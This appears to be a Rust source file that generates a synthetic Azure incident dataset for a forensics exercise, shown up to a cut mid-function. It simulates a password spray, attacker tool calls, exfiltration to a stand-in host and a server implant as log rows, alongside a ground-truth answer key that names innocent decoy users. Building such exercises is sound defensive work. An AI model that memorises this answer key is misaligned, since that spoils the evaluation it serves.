//! The synthetic incident: who works when, what the attacker does, and the rows each event leaves.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use chrono::{DateTime, Datelike, Duration, NaiveDate, TimeZone, Timelike, Utc, Weekday};
use serde::Serialize;
use serde_json::{Value, json};

use super::blobs::{BlobSet, SampleError, SlotLayout, workspace_prefix};

mod stories;

pub use stories::Story;

/// splitmix64: small, fast, and the same on every platform.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next() % n }
    }
    fn range(&mut self, lo: i64, hi: i64) -> i64 {
        lo + self.below((hi - lo).max(1) as u64) as i64
    }
    fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    fn poisson(&mut self, lambda: f64) -> u32 {
        let limit = (-lambda).exp();
        let (mut k, mut p) = (0u32, 1.0);
        loop {
            p *= self.unit();
            if p <= limit || k > 1000 {
                return k;
            }
            k += 1;
        }
    }
    fn hex(&mut self, chars: usize) -> String {
        let mut s = String::with_capacity(chars);
        while s.len() < chars {
            s.push_str(&format!("{:016x}", self.next()));
        }
        s.truncate(chars);
        s
    }
    fn uuid(&mut self) -> String {
        let h = self.hex(32);
        format!(
            "{}-{}-4{}-a{}-{}",
            &h[0..8],
            &h[8..12],
            &h[13..16],
            &h[17..20],
            &h[20..32]
        )
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Pattern {
    /// Weekdays, 08:00–18:00 in the user's own zone.
    Office,
    /// Every night, 22:00–06:00 UTC.
    NightShift,
    /// Office hours, but only from this day on (a new employee).
    StartsOn(u32),
}

#[derive(Debug, Clone)]
struct User {
    upn: String,
    object_id: String,
    display: String,
    ip: String,
    country: &'static str,
    city: &'static str,
    asn: i64,
    utc_offset: i64,
    pattern: Pattern,
    customers: Vec<String>,
    agent: &'static str,
}

/// How the MCP server records the caller in `UserAuthenticatedId` / `enduser.id`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum EnduserForm {
    /// The Entra object id.
    ObjectId,
    /// The user principal name.
    Upn,
}

/// What really happened, for tests and for judging `scope`.
#[derive(Debug, Clone, Serialize)]
pub struct GroundTruth {
    /// Seed used.
    pub seed: u64,
    /// Application Insights sampling (one operation in N kept).
    pub sampling: u32,
    /// Attacker tool calls whose telemetry sampling dropped.
    pub attacker_calls_sampled_away: u64,
    /// First day of evidence.
    pub start: String,
    /// Days of evidence.
    pub days: u32,
    /// When the spray started.
    pub attack_start: String,
    /// Which breach happened.
    pub story: Story,
    /// Compromised identities (UPN or service principal name, and object id).
    pub compromised_users: Vec<TruthUser>,
    /// Identities that were abused but whose abuse the evidence cannot show (sampling kept no
    /// hijacked session whole): a scope need not name them, and naming them is not an error.
    pub compromised_unseen_users: Vec<TruthUser>,
    /// Whether code planted in the MCP server copied data out (no identity misused for it).
    pub server_compromised: bool,
    /// Users who must not be named (night shift, new hire) with why.
    pub innocent_users: Vec<TruthUser>,
    /// Addresses the attacker used.
    pub attacker_ips: Vec<String>,
    /// Customers whose data the attacker touched or the implant passed out.
    pub affected_customers: Vec<String>,
    /// The confidence tier each affected customer must get: `exfiltrated` (an attacker call named
    /// them and the data went out) or `exposed` (answered by the server while the implant ran).
    pub customer_tiers: BTreeMap<String, String>,
    /// Tool calls made by the attacker (through the victim's identity and anonymously).
    pub attacker_tool_calls: u64,
    /// Anonymous calls with the stolen APIM key.
    pub anonymous_tool_calls: u64,
    /// Where data went: destination address and host.
    pub exfiltration: Vec<TruthDestination>,
    /// Destinations that are normal (backups, Key Vault).
    pub benign_destinations: Vec<TruthDestination>,
    /// The export outage (App Insights tables), UTC.
    pub outage: (String, String),
    /// How `UserAuthenticatedId` is written.
    pub enduser_form: EnduserForm,
}

/// A user in the ground truth.
#[derive(Debug, Clone, Serialize)]
pub struct TruthUser {
    /// UPN.
    pub upn: String,
    /// Entra object id.
    pub object_id: String,
    /// Why they are listed.
    pub note: String,
}

/// A network destination in the ground truth.
#[derive(Debug, Clone, Serialize)]
pub struct TruthDestination {
    /// Address.
    pub ip: String,
    /// Host name.
    pub host: String,
    /// What it is.
    pub note: String,
}

/// Counts of what was written.
#[derive(Debug, Default)]
pub struct WriteSummary {
    /// Blobs written.
    pub blobs: u64,
    /// Rows (lines and flow records) written.
    pub rows: u64,
}

const NAMES: &[(&str, &str)] = &[
    ("alice.martin", "Alice Martin"),
    ("bob.keller", "Bob Keller"),
    ("carla.diaz", "Carla Diaz"),
    ("david.okafor", "David Okafor"),
    ("emma.schulz", "Emma Schulz"),
    ("farid.haddad", "Farid Haddad"),
    ("grace.lee", "Grace Lee"),
    ("hugo.moreau", "Hugo Moreau"),
    ("ines.costa", "Ines Costa"),
    ("jonas.berg", "Jonas Berg"),
    ("kira.novak", "Kira Novak"),
    ("liam.walsh", "Liam Walsh"),
    ("maya.singh", "Maya Singh"),
    ("noah.fischer", "Noah Fischer"),
    ("olga.petrova", "Olga Petrova"),
    ("paul.weber", "Paul Weber"),
    ("quinn.baker", "Quinn Baker"),
    ("rosa.lopez", "Rosa Lopez"),
    ("sven.larsen", "Sven Larsen"),
    ("tara.obrien", "Tara O'Brien"),
    ("umar.khan", "Umar Khan"),
    ("vera.horvat", "Vera Horvat"),
    ("wim.devries", "Wim de Vries"),
    ("yara.nasser", "Yara Nasser"),
];
const DOMAIN: &str = "contoso.com";
const OFFICE_IP: &str = "203.0.113.10";
const SPRAY_IP: &str = "185.220.101.47";
const NIGHT_IPS: [&str; 2] = ["45.86.202.14", "45.86.202.77"];
const EXFIL_IP: &str = "91.215.85.30";
const EXFIL_HOST: &str = "files-drop.example.net";
const BACKUP_IP: &str = "20.60.40.4";
const BACKUP_HOST: &str = "stcrmbackup.blob.core.windows.net";
const VAULT_IP: &str = "52.246.157.5";
const VAULT_HOST: &str = "kv-mcp-prod.vault.azure.net";
const MCP_HOST_IP: &str = "10.0.1.4";
const MCP_MAC: &str = "000D3A1B2C3D";
const TICKETS_IP: &str = "10.0.2.5";
const TICKETS_MAC: &str = "000D3A5E6F70";
const APIM_PRIVATE_IP: &str = "10.0.3.4";
const SCANNERS: &[&str] = &[
    "193.32.162.17",
    "80.94.95.226",
    "162.142.125.9",
    "71.6.199.23",
    "45.148.10.81",
];

/// A generated incident.
pub struct Scenario {
    seed: u64,
    scale: f64,
    start: NaiveDate,
    days: u32,
    users: Vec<User>,
    victims: Vec<usize>,
    attack_day: u32,
    outage_day: u32,
    enduser_form: EnduserForm,
    tenant_id: String,
    workspace_id: String,
    subscription: String,
    ikey: String,
    story: Story,
    sign_in_layout: SignInLayout,
    emitter: super::emitter::Emitter,
    /// Application Insights keeps one operation in this many (1: all).
    sampling: u32,
    /// Whether outgoing HTTP dependency rows carry the peer's address (`network.peer.address`);
    /// the Azure Monitor exporters write the host (`Target`) and the URL (`Data`) only.
    peer_addresses: bool,
    apim_logs: ApimLogs,
    /// Every `am-*` table in hourly blobs without faults (see [`Scenario::with_plain_export`]).
    plain_export: bool,
}

/// Where API Management's gateway and MCP logs land in the workspace.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, clap::ValueEnum)]
#[serde(rename_all = "snake_case")]
pub enum ApimLogs {
    /// Resource-specific tables (`ApiManagementGatewayLogs`, `ApiManagementGatewayMCPLog`).
    ResourceSpecific,
    /// The shared `AzureDiagnostics` table (Azure diagnostics mode: `Category` `GatewayLogs` and
    /// `GatewayMCPLogs`, columns suffixed `_s`, `_d`, `_b`).
    AzureDiagnostics,
}

/// How Entra sign-ins and audit logs reach the storage account.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, clap::ValueEnum)]
#[serde(rename_all = "snake_case")]
pub enum SignInLayout {
    /// Log Analytics data export (`am-signinlogs`, …).
    La,
    /// Diagnostic settings (`insights-logs-signinlogs/tenantId=…`, camelCase envelope).
    Diag,
}

struct DayContext<'a> {
    rng: Rng,
    blobs: BlobSet,
    ws: String,
    scenario: &'a Scenario,
    rows: u64,
    touched: BTreeSet<String>,
    attacker_calls: u64,
    anonymous_calls: u64,
    /// Draws for the traps and the token, agent and implant stories, apart from `rng`.
    story_rng: Rng,
    /// Customers passed through the server while the implant copied its results out.
    exposed: BTreeSet<String>,
    /// First and last attacker call (and implant copy), for the span rejected lines count in.
    attack_span: Option<(DateTime<Utc>, DateTime<Utc>)>,
    /// The implant's first outbound flow (copy or beacon): the server is exposed from ten
    /// minutes before it.
    first_implant_copy: Option<DateTime<Utc>>,
    /// Tool-call lines the export cut short: their 5-minute bucket and the customers the
    /// surviving text still names.
    cut_lines: Vec<(DateTime<Utc>, Vec<String>)>,
    /// Whether sampling kept the last tool call's telemetry.
    last_call_seen: bool,
    /// Whether the export cut the last tool call's line short (its customers are then named only
    /// as far as the surviving text goes, in `cut_lines`).
    last_call_cut: bool,
    /// Attacker calls sampling kept out of the evidence.
    attacker_calls_sampled_away: u64,
    /// The hijacked agent's posts whose telemetry was kept.
    hijack_posts_seen: u64,
    /// Customers of hijacked sessions whose post was kept (the attacker's in the evidence when
    /// some hijacked session is attributable whole).
    agent_touched: BTreeSet<String>,
}

impl DayContext<'_> {
    /// Widens the attack's span to `t`.
    pub(super) fn attack_at(&mut self, t: DateTime<Utc>) {
        self.attack_span = Some(match self.attack_span {
            Some((first, last)) => (first.min(t), last.max(t)),
            None => (t, t),
        });
    }
}

impl Scenario {
    /// A scenario for a seed and scale; the same inputs always give the same incident.
    pub fn new(seed: u64, scale: f64, start: NaiveDate, days: u32) -> Self {
        let mut rng = Rng(seed ^ 0x6d63_7066_6f72_656e);
        let user_count = ((20.0 * scale.sqrt()).round() as usize).clamp(8, 2000);
        let mut users = Vec::with_capacity(user_count);
        let mut next_customer = 10_001u32;
        for i in 0..user_count {
            let (login, display) = NAMES[i % NAMES.len()];
            let suffix = if i < NAMES.len() {
                String::new()
            } else {
                format!("{}", i / NAMES.len() + 1)
            };
            let remote = i % 5 == 3;
            let (country, city, utc_offset, asn) = match i % 7 {
                0 | 1 | 2 | 4 => ("DE", "Berlin", 1, 3320),
                3 => ("GB", "London", 0, 2856),
                5 => ("IE", "Dublin", 0, 5466),
                _ => ("NL", "Amsterdam", 1, 1136),
            };
            let customers = (0..12)
                .map(|_| {
                    next_customer += 1;
                    format!("C-{next_customer}")
                })
                .collect();
            users.push(User {
                upn: format!("{login}{suffix}@{DOMAIN}"),
                object_id: rng.uuid(),
                display: format!(
                    "{display}{}",
                    if suffix.is_empty() {
                        String::new()
                    } else {
                        format!(" {suffix}")
                    }
                ),
                ip: if remote {
                    format!("198.51.100.{}", 20 + i % 200)
                } else {
                    OFFICE_IP.to_string()
                },
                country,
                city,
                asn,
                utc_offset,
                pattern: Pattern::Office,
                customers,
                agent: if i % 2 == 0 {
                    "Claude-Desktop/0.12.3"
                } else {
                    "vscode-copilot/1.104.0"
                },
            });
        }
        let attack_day = days / 2;
        // The night-shift worker and the new hire are innocent look-alikes.
        users[2].pattern = Pattern::NightShift;
        users[2].ip = "198.51.100.77".into();
        let new_hire = user_count - 1;
        users[new_hire].pattern = Pattern::StartsOn(attack_day + 3);
        users[new_hire].ip = OFFICE_IP.into();
        Scenario {
            seed,
            scale,
            start,
            days,
            users,
            victims: vec![1],
            attack_day,
            outage_day: (attack_day + 5).min(days - 2),
            enduser_form: if seed % 2 == 1 {
                EnduserForm::ObjectId
            } else {
                EnduserForm::Upn
            },
            tenant_id: rng.uuid(),
            workspace_id: rng.uuid(),
            subscription: rng.uuid(),
            ikey: rng.uuid(),
            story: Story::Password,
            sign_in_layout: SignInLayout::La,
            emitter: super::emitter::Emitter::OneRow,
            sampling: 1,
            peer_addresses: false,
            apim_logs: ApimLogs::ResourceSpecific,
            plain_export: false,
        }
    }

    /// A plain export: every `am-*` table in hourly blobs (`m=00/PT1H.json`, as export rules
    /// created before 2021-10-15 write them), one blob a slot (no `_1` spills), and no faults in
    /// those exports (no cut lines, no mistyped values, no retry duplicates); flow logs are
    /// written as by default. The incident is the same; the blobs are fewer and larger.
    #[must_use]
    pub fn with_plain_export(mut self, on: bool) -> Self {
        self.plain_export = on;
        self
    }

    /// Outgoing HTTP dependency rows carry the peer's address, as some instrumentations add
    /// (`network.peer.address`); by default they name the host only, as the exporters write them.
    #[must_use]
    pub fn with_peer_addresses(mut self, on: bool) -> Self {
        self.peer_addresses = on;
        self
    }

    /// Where API Management's logs land: resource-specific tables or `AzureDiagnostics`.
    #[must_use]
    pub fn with_apim_logs(mut self, logs: ApimLogs) -> Self {
        self.apim_logs = logs;
        self
    }

    /// Application Insights sampling: one operation in `n` is kept, with `ItemCount` n.
    #[must_use]
    pub fn with_sampling(mut self, n: u32) -> Self {
        self.sampling = n.max(1);
        self
    }

    /// Whether sampling keeps the operation with this id (all its rows, or none).
    fn keeps_operation(&self, operation_id: &str) -> bool {
        self.sampling <= 1
            || xxhash_rust::xxh3::xxh3_64(operation_id.as_bytes())
                .is_multiple_of(u64::from(self.sampling))
    }

    /// How the MCP server's telemetry is shaped (one row, HTTP parent and MCP child, no session id).
    #[must_use]
    pub fn with_emitter(mut self, emitter: super::emitter::Emitter) -> Self {
        self.emitter = emitter;
        self
    }

    /// Whether Entra logs are written as Log Analytics export or diagnostic-settings archives.
    #[must_use]
    pub fn with_sign_in_layout(mut self, layout: SignInLayout) -> Self {
        self.sign_in_layout = layout;
        self
    }

    /// Which breach happens (`password` unless told otherwise).
    #[must_use]
    pub fn with_story(mut self, story: Story) -> Self {
        self.story = story;
        self
    }

    /// Has the spray get into `count` accounts (1 or 2); the attacker then alternates between them by night.
    #[must_use]
    pub fn with_compromised(mut self, count: usize) -> Self {
        self.victims = if count >= 2 { vec![1, 4] } else { vec![1] };
        self
    }

    /// The customers the attacker goes after: the books of every third colleague.
    fn targets(&self) -> Vec<String> {
        self.users
            .iter()
            .enumerate()
            .filter(|(i, _)| i % 3 == 0 && !self.victims.contains(i))
            .flat_map(|(_, u)| u.customers.clone())
            .collect()
    }

    fn day_start(&self, day: u32) -> DateTime<Utc> {
        let date = self.start + Duration::days(i64::from(day));
        Utc.from_utc_datetime(&date.and_hms_opt(0, 0, 0).unwrap_or_default())
    }

    fn outage(&self) -> (DateTime<Utc>, DateTime<Utc>) {
        let day = self.day_start(self.outage_day);
        (day + Duration::hours(6), day + Duration::hours(13))
    }

    /// The ground truth, computed by replaying the generation without writing.
    pub fn truth(&self) -> GroundTruth {
        let mut touched = BTreeSet::new();
        let mut exposed = BTreeSet::new();
        let (mut attacker_calls, mut anonymous_calls) = (0, 0);
        let mut span: Option<(DateTime<Utc>, DateTime<Utc>)> = None;
        let mut first_copy: Option<DateTime<Utc>> = None;
        let mut cut_lines = Vec::new();
        let (mut sampled_away, mut hijack_posts_seen) = (0, 0);
        let mut agent_touched = BTreeSet::new();
        for day in 0..self.days {
            let ctx = self.generate_day(day);
            sampled_away += ctx.attacker_calls_sampled_away;
            hijack_posts_seen += ctx.hijack_posts_seen;
            touched.extend(ctx.touched);
            agent_touched.extend(ctx.agent_touched);
            exposed.extend(ctx.exposed);
            attacker_calls += ctx.attacker_calls;
            anonymous_calls += ctx.anonymous_calls;
            if let Some((first, last)) = ctx.attack_span {
                span = Some(span.map_or((first, last), |(f, l)| (f.min(first), l.max(last))));
            }
            first_copy = first_copy.or(ctx.first_implant_copy);
            cut_lines.extend(ctx.cut_lines);
        }
        if hijack_posts_seen > 0 {
            touched.extend(agent_touched);
        }
        // The server is exposed from ten minutes before its first copy to the end of the evidence.
        if let Some(copy) = first_copy {
            let (start, end) = (copy - Duration::minutes(10), self.day_start(self.days));
            span = Some(span.map_or((start, end), |(f, l)| (f.min(start), l.max(end))));
        }
        // Named only in a line the export cut short within the attack's span: cannot be excluded.
        let unreadable: BTreeSet<String> = match span {
            Some((first, last)) => cut_lines
                .into_iter()
                .filter(|(bucket, _)| *bucket + Duration::minutes(5) > first && *bucket <= last)
                .flat_map(|(_, customers)| customers)
                .collect(),
            None => BTreeSet::new(),
        };
        let customer_tiers: BTreeMap<String, String> = unreadable
            .iter()
            .map(|c| (c.clone(), "cannot_exclude".to_string()))
            .chain(exposed.iter().map(|c| (c.clone(), "exposed".to_string())))
            .chain(
                touched
                    .iter()
                    .map(|c| (c.clone(), "exfiltrated".to_string())),
            )
            .collect();

        let (outage_from, outage_to) = self.outage();
        GroundTruth {
            seed: self.seed,
            start: self.start.to_string(),
            days: self.days,
            attack_start: format_utc(self.day_start(self.attack_day) + Duration::minutes(185)),
            story: self.story,
            compromised_users: self.compromised_truth(hijack_posts_seen > 0),
            compromised_unseen_users: self.compromised_unseen_truth(hijack_posts_seen > 0),
            server_compromised: self.story.has(Story::Implant),
            innocent_users: self.innocent_truth(),
            attacker_ips: self.attacker_ips_truth(),
            affected_customers: customer_tiers.keys().cloned().collect(),
            customer_tiers,
            attacker_tool_calls: attacker_calls,
            attacker_calls_sampled_away: sampled_away,
            sampling: self.sampling,
            anonymous_tool_calls: anonymous_calls,
            exfiltration: self.exfiltration_truth(hijack_posts_seen > 0),
            benign_destinations: vec![
                TruthDestination {
                    ip: BACKUP_IP.into(),
                    host: BACKUP_HOST.into(),
                    note: "nightly backup".into(),
                },
                TruthDestination {
                    ip: VAULT_IP.into(),
                    host: VAULT_HOST.into(),
                    note: "Key Vault reads".into(),
                },
            ],
            outage: (format_utc(outage_from), format_utc(outage_to)),
            enduser_form: self.enduser_form,
        }
    }

    /// Writes every blob below `root`, one day at a time.
    pub fn write(&self, root: &Path) -> Result<WriteSummary, SampleError> {
        let mut summary = WriteSummary::default();
        // Rows a slot's blob holds before the rest spill into `_1`, `_2` …: few, so every
        // reader meets the spilled names; a plain export has one blob a slot.
        let overflow_rows = if self.plain_export { usize::MAX } else { 8 };
        for day in 0..self.days {
            let mut ctx = self.generate_day(day);
            summary.rows += ctx.rows;
            summary.blobs += ctx.blobs.flush(root, overflow_rows)?;
        }
        Ok(summary)
    }

    fn generate_day(&self, day: u32) -> DayContext<'_> {
        let mut ctx = DayContext {
            rng: Rng(self
                .seed
                .wrapping_mul(1_000_003)
                .wrapping_add(u64::from(day) * 7919)),
            blobs: BlobSet::default(),
            ws: workspace_prefix(&self.subscription, "rg-mcp-prod", "law-mcp-prod"),
            scenario: self,
            rows: 0,
            touched: BTreeSet::new(),
            attack_span: None,
            first_implant_copy: None,
            cut_lines: Vec::new(),
            last_call_seen: true,
            last_call_cut: false,
            attacker_calls_sampled_away: 0,
            hijack_posts_seen: 0,
            agent_touched: BTreeSet::new(),
            attacker_calls: 0,
            anonymous_calls: 0,
            story_rng: Rng(self
                .seed
                .wrapping_mul(6_700_417)
                .wrapping_add(u64::from(day) * 104_729)
                ^ 0x7374_6f72_7900),
            exposed: BTreeSet::new(),
        };
        let midnight = self.day_start(day);
        let weekday = !matches!(midnight.weekday(), Weekday::Sat | Weekday::Sun);
        for user in &self.users {
            let hours: Vec<i64> = match user.pattern {
                Pattern::Office if weekday => (8..18).map(|h| h - user.utc_offset).collect(),
                Pattern::StartsOn(first) if weekday && day >= first => {
                    (9..17).map(|h| h - user.utc_offset).collect()
                }
                Pattern::NightShift => vec![0, 1, 2, 3, 4, 5, 22, 23],
                _ => Vec::new(),
            };
            if hours.is_empty() {
                continue;
            }
            let first_hour = if user.pattern == Pattern::NightShift {
                0
            } else {
                hours[0]
            };
            let session = ctx.rng.uuid();
            let sign_in =
                midnight + Duration::hours(first_hour) + Duration::seconds(ctx.rng.range(60, 1500));
            ctx.sign_in(user, sign_in, &user.ip, "0", true);
            for &hour in &hours {
                let hour_start = midnight + Duration::hours(hour);
                if ctx.rng.chance(0.15) {
                    let at = hour_start + Duration::seconds(ctx.rng.range(0, 3500));
                    ctx.sign_in(user, at, &user.ip, "0", false);
                }
                let calls = ctx.rng.poisson(0.4 * self.scale.clamp(0.2, 4.0));
                for _ in 0..calls {
                    let t = hour_start + Duration::milliseconds(ctx.rng.range(0, 3_599_000));
                    let call = ctx.legit_call(user);
                    ctx.tool_call(user, &user.ip, &session, t, &call, false);
                }
            }
        }
        ctx.background(midnight);
        if weekday {
            ctx.helpdesk(midnight);
        }
        let password = self.story.has(Story::Password);
        if password && day == self.attack_day {
            ctx.spray(midnight + Duration::minutes(185));
        }
        if password && day >= self.attack_day {
            let night_index = day - self.attack_day;
            if night_index == 0 || ctx.rng.chance(0.75) {
                ctx.attacker_night(midnight, night_index);
            }
        }
        ctx.traps_and_stories(day, midnight, weekday);
        if day == self.days - 1 {
            // The last hour's flow-log blob was read while still being appended to.
            let last_hour = midnight + Duration::hours(23);
            ctx.blobs.cut_flow_blob(
                "insights-logs-networksecuritygroupflowevent",
                &ctx.nsg_prefix(),
                MCP_MAC,
                last_hour,
                37,
            );
        }
        ctx
    }
}

/// One MCP tool call as the server handles it.
struct Call {
    tool: &'static str,
    arguments: Value,
    customers: Vec<String>,
    response_bytes: i64,
    upload: Option<i64>,
}

fn ts(t: DateTime<Utc>) -> String {
    format!(
        "{}.{:07}Z",
        t.format("%Y-%m-%dT%H:%M:%S"),
        t.timestamp_subsec_nanos() / 100
    )
}

impl DayContext<'_> {
    fn nsg_prefix(&self) -> String {
        format!(
            "resourceId=/SUBSCRIPTIONS/{}/RESOURCEGROUPS/RG-MCP-PROD/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG-MCP-PROD",
            self.scenario.subscription.to_ascii_uppercase()
        )
    }

    fn vnet_prefix(&self) -> String {
        format!(
            "flowLogResourceID=/{}_NETWORKWATCHERRG/NETWORKWATCHER_WESTEUROPE_FL-MCP-TICKETS",
            self.scenario.subscription.to_ascii_uppercase()
        )
    }

    fn in_outage(&self, table: &str, t: DateTime<Utc>) -> bool {
        let (from, to) = self.scenario.outage();
        table.starts_with("App") && t >= from && t < to
    }

    /// Whether a row is written at all: not in an export outage, and in an operation sampling
    /// keeps (a kept row then stands for `sampling` events).
    fn kept(&self, table: &str, t: DateTime<Utc>, row: &mut Value) -> bool {
        if self.in_outage(table, t) {
            return false;
        }
        if table.starts_with("App")
            && self.scenario.sampling > 1
            && let Some(operation) = row.get("OperationId").and_then(Value::as_str)
        {
            if !self.scenario.keeps_operation(operation) {
                return false;
            }
            row["ItemCount"] = json!(self.scenario.sampling);
        }
        true
    }

    /// Writes a row without drawing from the generator's random stream (no export faults), so
    /// rows added to a story leave every other row of the scenario as it was.
    fn emit_without_faults(&mut self, table: &str, t: DateTime<Utc>, mut row: Value) {
        if !self.kept(table, t, &mut row) {
            return;
        }
        let (table, row) = self.workspace_form(table, row);
        if !self.wrote_diagnostic(table, t, &row) {
            let ws = self.ws.clone();
            self.blobs
                .row(&ws, table, SlotLayout::FiveMinutes, t, row.to_string());
            self.rows += 1;
        }
    }

    /// The table and row a record lands as in the workspace: API Management's in
    /// `AzureDiagnostics` when the scenario's diagnostic setting uses that mode.
    fn workspace_form<'t>(&self, table: &'t str, row: Value) -> (&'t str, Value) {
        if self.scenario.apim_logs == ApimLogs::AzureDiagnostics
            && let Some(diagnostics) = super::diagnostic::azure_diagnostics_row(table, &row)
        {
            return ("AzureDiagnostics", diagnostics);
        }
        (table, row)
    }

    /// Writes `row` as a diagnostic-settings record when the scenario archives `table` that way;
    /// whether it did.
    fn wrote_diagnostic(&mut self, table: &str, t: DateTime<Utc>, row: &Value) -> bool {
        if self.scenario.sign_in_layout != SignInLayout::Diag {
            return false;
        }
        let Some(container) = super::diagnostic::container_of(table) else {
            return false;
        };
        let record = super::diagnostic::record_of(table, &self.scenario.tenant_id, row);
        let prefix = format!("tenantId={}", self.scenario.tenant_id);
        self.blobs
            .diagnostic_row(&container, &prefix, t, record.to_string());
        self.rows += 1;
        true
    }

    fn emit(&mut self, table: &str, t: DateTime<Utc>, mut row: Value) {
        if !self.kept(table, t, &mut row) {
            return;
        }
        let (table, row) = self.workspace_form(table, row);
        let layout = match table {
            _ if self.scenario.plain_export => SlotLayout::Hourly,
            "AppEvents" => SlotLayout::FiveMinutesShort,
            "AuditLogs" => SlotLayout::Hourly,
            _ => SlotLayout::FiveMinutes,
        };
        let mut line = row.to_string();
        // Export faults: a few lines cut short, one wrong type, and retry duplicates.
        let roll = self.rng.unit();
        let faults = !self.scenario.plain_export;
        if faults && table == "AppRequests" && roll < 0.002 {
            line.truncate(line.len() * 3 / 5);
            if line.contains("gen_ai.tool.call.arguments") {
                self.last_call_cut = true;
            }
            let bucket = t
                - Duration::seconds(t.timestamp().rem_euclid(300))
                - Duration::nanoseconds(i64::from(t.timestamp_subsec_nanos()));
            self.cut_lines.push((bucket, surviving_customers(&line)));
        } else if faults && table == "AppTraces" && roll < 0.0015 {
            line = line.replacen(
                "\"SeverityLevel\":1",
                "\"SeverityLevel\":\"Information\"",
                1,
            );
        }
        let duplicate = faults && roll > 0.992;
        if self.wrote_diagnostic(table, t, &row) {
            return;
        }
        let ws = self.ws.clone();
        if duplicate {
            self.blobs.row(&ws, table, layout, t, line.clone());
            self.rows += 1;
        }
        self.blobs.row(&ws, table, layout, t, line);
        self.rows += 1;
    }

    fn sign_in(
        &mut self,
        user: &User,
        t: DateTime<Utc>,
        ip: &str,
        result: &str,
        interactive: bool,
    ) {
        let attacker = ip == SPRAY_IP || NIGHT_IPS.contains(&ip);
        let (country, city, asn) = if attacker {
            if ip == SPRAY_IP {
                ("NL", "Amsterdam", 60729)
            } else {
                ("RO", "Bucharest", 48693)
            }
        } else if ip == OFFICE_IP || user.ip == OFFICE_IP {
            // Office staff sign in from Germany wherever they are in it (a hotel, too).
            ("DE", "Berlin", 3320)
        } else {
            (user.country, user.city, user.asn)
        };
        let location =
            json!({"city": city, "state": "", "countryOrRegion": country, "geoCoordinates": {}});
        let device = json!({"deviceId": "", "operatingSystem": if attacker { "Linux" } else { "Windows 10" }, "browser": if attacker { "python-requests 2.32" } else { "Edge 131.0.0" }});
        let description = match result {
            "0" => "",
            "50126" => "Error validating credentials due to invalid username or password.",
            "50053" => {
                "Account is locked because user tried to sign in too many times with an incorrect user ID or password."
            }
            _ => "Other",
        };
        let status = json!({"errorCode": result.parse::<i64>().unwrap_or(0), "failureReason": if result == "0" { "Other." } else { description }});
        let table = if interactive {
            "SigninLogs"
        } else {
            "AADNonInteractiveUserSignInLogs"
        };
        // The non-interactive table writes its dynamic columns as JSON strings.
        let dynamic = |v: Value| {
            if interactive {
                v
            } else {
                Value::String(v.to_string())
            }
        };
        let row = json!({
            "TenantId": self.scenario.workspace_id, "SourceSystem": "Azure AD", "TimeGenerated": ts(t),
            "ResourceId": format!("/tenants/{}/providers/Microsoft.aadiam", self.scenario.tenant_id),
            "OperationName": "Sign-in activity", "OperationVersion": "1.0", "Category": if interactive { "SignInLogs" } else { "NonInteractiveUserSignInLogs" },
            "ResultType": result, "ResultSignature": if result == "0" { "SUCCESS" } else { "FAILURE" }, "ResultDescription": description,
            "DurationMs": 0, "CorrelationId": self.rng.uuid(), "Identity": user.display, "Level": 4, "Location": country,
            "AppDisplayName": "MCP CRM Assistant", "AppId": "4f6b2a1e-9c3d-4e8f-a1b2-c3d4e5f60718", "AuthenticationRequirement": "singleFactorAuthentication",
            "ClientAppUsed": if interactive { "Browser" } else { "Mobile Apps and Desktop clients" }, "ConditionalAccessStatus": "notApplied",
            "CreatedDateTime": ts(t), "DeviceDetail": dynamic(device), "IsInteractive": interactive, "Id": self.rng.uuid(),
            "IPAddress": ip, "AutonomousSystemNumber": asn, "LocationDetails": dynamic(location), "OriginalRequestId": self.rng.uuid(),
            "RiskDetail": "none", "RiskLevelAggregated": "hidden", "RiskLevelDuringSignIn": "hidden", "RiskState": "none",
            "ResourceDisplayName": "mcp-crm-api", "ResourceIdentity": "7a1c9e55-2b4d-4c6e-8f10-2a3b4c5d6e7f",
            "Status": dynamic(status), "TokenIssuerType": "AzureAD", "UserAgent": if attacker { "python-requests/2.32.3" } else { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/131.0" },
            "UserDisplayName": user.display, "UserId": user.object_id, "UserPrincipalName": user.upn, "UserType": "Member",
            "UniqueTokenIdentifier": self.rng.hex(22), "HomeTenantId": self.scenario.tenant_id, "ResourceTenantId": self.scenario.tenant_id,
            "Type": table,
        });
        self.emit(table, t, row);
    }

    fn legit_call(&mut self, user: &User) -> Call {
        let customer = self.rng.pick(&user.customers).clone();
        let roll = self.rng.below(100);
        let (tool, arguments, customers, bytes) = match roll {
            0..=34 => (
                "get_customer",
                json!({"customer_id": customer}),
                vec![customer],
                self.rng.range(1_800, 6_000),
            ),
            35..=59 => (
                "list_orders",
                json!({"customerId": customer, "since": "2026-01-01"}),
                vec![customer],
                self.rng.range(3_000, 14_000),
            ),
            60..=74 => (
                "get_invoice",
                json!({"account_id": customer, "invoice_id": format!("INV-{}", self.rng.range(40_000, 99_999))}),
                vec![customer],
                self.rng.range(2_000, 5_000),
            ),
            75..=89 => {
                let matched: Vec<String> = (0..self.rng.range(1, 4))
                    .map(|_| self.rng.pick(&user.customers).clone())
                    .collect();
                (
                    "search_customers",
                    json!({"query": format!("{} ltd", &customer[2..5])}),
                    matched,
                    self.rng.range(1_500, 4_000),
                )
            }
            _ => (
                "update_ticket",
                json!({"ticket_id": format!("T-{}", self.rng.range(100_000, 999_999)), "customer": customer, "status": "resolved"}),
